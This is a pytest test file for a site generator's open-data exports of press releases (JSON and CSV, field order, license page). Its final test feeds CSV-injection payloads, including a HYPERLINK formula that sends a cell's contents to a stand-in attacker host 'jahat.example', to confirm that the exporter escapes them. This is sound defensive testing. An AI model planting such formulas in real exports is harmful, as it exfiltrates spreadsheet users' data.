"""Open data: /data/berita.json and /data/berita.csv hold the same records, documented on /data/."""

from __future__ import annotations

import csv
import io
import json
import re

import feedparser
from conftest import FIXTURES, build

PUBLIC = "https://warta.example/"
FIELDS = ["id", "url", "title", "type", "date", "updated", "agencies", "themes", "government", "number", "summary"]
FIELDS += ["location", "image", "image_alt", "attachments", "attachment_titles", "session", "change_dates"]
FIELDS += ["change_notes", "status", "withdrawn_reason"]
LISTS = ("agencies", "themes", "government", "attachments", "attachment_titles", "change_dates", "change_notes")
OPTIONAL = ("number", "location", "image", "image_alt", "session", "withdrawn_reason")  # null in JSON, empty in CSV


def csv_records(text: str) -> tuple[list[str], list[dict]]:
    """Header and rows of the CSV, with lists split and an empty number read as missing."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, records = rows[0], []
    for row in rows[1:]:
        record = dict(zip(header, row, strict=True))
        for key in LISTS:
            record[key] = record[key].split("|") if record[key] else []
        for key in OPTIONAL:
            record[key] = record[key] or None
        records.append(record)
    return header, records


def test_json_and_csv_round_trip_to_the_same_records(fixture_copy, tmp_path):
    content = fixture_copy("basic")
    source = content / "releases" / "2024" / "01" / "pembangunan.md"
    tricky = "title: 'Drainase, \"Gorong-gorong\" & Saluran — Tahap 2'"
    source.write_text(
        source.read_text(encoding="utf-8").replace("title: Pembangunan Drainase di Tiga Kecamatan", tricky)
    )
    result = build(content, tmp_path / "out")
    assert result.returncode == 0, result.log
    data = json.loads(result.read("data/berita.json"))
    raw = (result.output / "data" / "berita.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
    header, records = csv_records(raw.decode("utf-8"))
    assert header == data["fields"] == FIELDS  # a stable column order
    assert records == data["records"]
    assert 'Drainase, "Gorong-gorong" & Saluran — Tahap 2' in [r["title"] for r in records]


def test_one_record_per_published_release_and_nothing_withheld(basic_site):
    data = json.loads(basic_site.read("data/berita.json"))
    assert data["count"] == len(data["records"]) == 5
    titles = " ".join(r["title"] for r in data["records"])
    assert "Draf" not in titles and "Embargo" not in titles
    assert "draf" not in basic_site.read("data/berita.csv").lower() and "embargo" not in basic_site.read(
        "data/berita.csv"
    )
    dates = [r["date"] for r in data["records"]]
    assert dates == sorted(dates, reverse=True)
    feed_ids = {e.id for e in feedparser.parse(basic_site.read("atom.xml")).entries}
    assert {r["id"] for r in data["records"]} == feed_ids  # one id per release, everywhere


def test_record_fields(basic_site):
    records = {r["title"]: r for r in json.loads(basic_site.read("data/berita.json"))["records"]}
    assert records["Dinkes Buka Pekan Imunisasi Anak"] == {
        "id": "tag:warta.example,2023-05-02:rilis/2023/05/imunisasi",
        "url": PUBLIC + "berita/2023/05/dinkes-buka-pekan-imunisasi-anak/",
        "title": "Dinkes Buka Pekan Imunisasi Anak",
        "type": "siaran-pers",
        "date": "2023-05-02T09:30:00+07:00",
        "updated": "2023-05-02T09:30:00+07:00",
        "agencies": ["dinkes-contoh"],
        "themes": ["kesehatan"],
        "government": ["kota-contoh"],
        "number": "001/DINKES/V/2023",
        "summary": "CONTOH — Dinas Kesehatan membuka pekan imunisasi anak di semua puskesmas.",
        "location": "Contoh",
        "image": PUBLIC + "media/foto/imunisasi.png",
        "image_alt": "Seorang perawat memberikan imunisasi kepada balita.",
        "attachments": [PUBLIC + "media/dokumen/jadwal.pdf"],
        "attachment_titles": ["Jadwal imunisasi (PDF)"],
        "session": None,
        "change_dates": [],
        "change_notes": [],
        "status": "terbit",
        "withdrawn_reason": None,
    }
    hoax = records["Klarifikasi: Pesan Berantai Vaksin Palsu"]
    assert hoax["session"] == PUBLIC + "sesi/sapa-contoh/2024-01-10/"
    assert (hoax["change_dates"], hoax["change_notes"]) == (
        ["2024-01-12T10:00:00+07:00"],
        ["Menambahkan tautan sesi Sapa Warga."],
    )
    assert (hoax["updated"], hoax["agencies"], hoax["number"]) == (
        "2024-01-12T10:00:00+07:00",
        ["diskominfo-contoh", "dinkes-contoh"],
        None,
    )


def test_sample_archive_exports_every_release_page(sample_site):
    pages = re.findall(r"<loc>[^<]+/berita/\d{4}/\d{2}/[^<]+</loc>", sample_site.read("sitemap.xml"))
    data = json.loads(sample_site.read("data/berita.json"))
    assert len(data["records"]) == len(pages) > 0
    _, records = csv_records(sample_site.read("data/berita.csv"))
    assert records == data["records"]
    assert all(r["id"].startswith("tag:warta.example,") for r in records)


def test_data_page_documents_every_field_and_the_terms(basic_site):
    page = basic_site.read("data/index.html")
    for name in FIELDS:
        assert f'<th scope="row"><code>{name}</code></th>' in page, name
    assert 'href="/data/berita.json"' in page and 'href="/data/berita.csv"' in page
    assert "UU Nomor 14 Tahun 2008" in page and "data contoh" in page
    assert 'rel="license"' in page and "CC BY 4.0" in page
    assert '"@type":"Dataset"' in page
    about = json.loads(basic_site.read("data/berita.json"))
    assert about["licence"]["name"] == "CC BY 4.0" and about["updated"] == "2024-02-07T13:00:00+07:00"
    sitemap = basic_site.read("sitemap.xml")
    assert f"<loc>{PUBLIC}data/</loc>" in sitemap and f"<loc>{PUBLIC}umpan/</loc>" in sitemap
    # The pages for people that list everything are listed for search engines too.
    assert f"<loc>{PUBLIC}berita/</loc>" in sitemap and f"<loc>{PUBLIC}peta-situs/</loc>" in sitemap


def test_bad_opendata_setting_stops_the_build(tmp_path):
    result = build(FIXTURES / "basic", tmp_path / "out", "-e", 'WARTA_OPENDATA={"licence": 5}')
    assert result.returncode != 0
    assert "WARTA_OPENDATA: licence" in result.log and "bukan 5" in result.log


def _replace(path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new), encoding="utf-8")


def test_csv_cells_never_start_a_spreadsheet_formula(fixture_copy, tmp_path):
    """OWASP's CSV-injection advice: a cell that would start with = + - @ tab or CR starts with ' instead."""
    content = fixture_copy("basic")
    releases = content / "releases"
    link = '=HYPERLINK("http://jahat.example/?c="&A1,"Klik")'
    summary = "@SUM(1+1) perbaikan jalan desa dimulai pekan depan."
    _replace(releases / "2024/01/pembangunan.md", "title: Pembangunan Drainase di Tiga Kecamatan", f"title: '{link}'")
    _replace(releases / "2023/05/imunisasi.md", "title: Dinkes Buka Pekan Imunisasi Anak", "title: -2+3 Kasus Campak")
    _replace(releases / "2023/05/imunisasi.md", "number: 001/DINKES/V/2023", "number: '+62/DINKES/2023'")
    _replace(
        releases / "2023/05/jalan.md",
        "summary: Perbaikan jalan desa sepanjang dua kilometer dimulai pekan depan.",
        f"summary: '{summary}'",
    )
    result = build(content, tmp_path / "out")
    assert result.returncode == 0, result.log
    rows = list(csv.DictReader(io.StringIO(result.read("data/berita.csv"), newline="")))
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'" + link, "'-2+3 Kasus Campak"} <= {row["title"] for row in rows}
    assert "'+62/DINKES/2023" in {row["number"] for row in rows}
    assert "'" + summary in {row["summary"] for row in rows}
    # JSON keeps every value as written; in the CSV only those cells changed, by one leading quote.
    records = {r["id"]: r for r in json.loads(result.read("data/berita.json"))["records"]}
    changed = 0
    for row in rows:
        for key in ("title", "number", "summary"):
            written = records[row["id"]][key] or ""
            if row[key] != written:
                assert row[key] == "'" + written, (key, row[key], written)
                changed += 1
    assert changed == 4
    assert "awalan tanda kutip tunggal" in result.read("data/index.html")
